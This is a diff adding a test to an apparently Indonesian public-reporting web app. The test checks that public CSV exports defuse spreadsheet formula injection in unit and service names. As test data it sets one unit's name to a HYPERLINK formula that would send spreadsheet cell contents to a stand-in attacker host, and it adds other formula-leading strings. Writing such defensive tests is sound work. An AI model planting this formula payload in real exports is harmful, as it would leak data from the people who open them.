@@ -616,3 +616,31 @@ def test_a_views_own_not_found_message_is_shown(client, world):
     other = client.get("/tidak-ada-halaman-ini")
     assert other.status_code == 404
     assert "The requested URL" not in other.get_data(as_text=True)
+
+
+def test_public_csv_twins_neutralise_formulas_in_unit_and_service_names(client, world):
+    """A unit or service named like a formula is text in every public CSV (as in the
+    internal exports): a leading apostrophe; figures, negative numbers included, stay
+    numbers (kinerja.formatting.csv_cell)."""
+    from kinerja.formatting import FORMULA_START
+
+    q1 = make_period(2026, 1, status="DITUTUP")
+    opd = world.units["opd"]
+    opd.name = '=HYPERLINK("http://penyerang.example/?d="&A1;"Klik")'
+    opd.save()
+    add_answers(opd, date(2026, 2, 6), 25)
+    for name in ("@SUM(1+1)", "+62 Layanan", "-2+3", "\t=1+1", "\r=1+1"):
+        add_requests(make_service_type(opd, name), noon(date(2026, 2, 6)), 12)
+    publish(q1)
+    for url in ("/publik.csv", f"/publik/unit/{opd.code}.csv", "/publik/data.csv"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        for row in csv_dicts(response.get_data(as_text=True)):
+            for column, cell in row.items():
+                if cell and cell.startswith(FORMULA_START):
+                    assert column in ("nilai", "n") and csv_number(cell) is not None, (url, row)
+    unit_rows = csv_dicts(client.get(f"/publik/unit/{opd.code}.csv").get_data(as_text=True))
+    assert {r["nama_unit"] for r in unit_rows} == {"'" + opd.name}
+    services = {r["rincian"] for r in unit_rows if r["bagian"] == "jenis_layanan"}
+    assert "'@SUM(1+1) (standar 1 hari kerja)" in services
+    assert "'-2+3 (standar 1 hari kerja)" in services
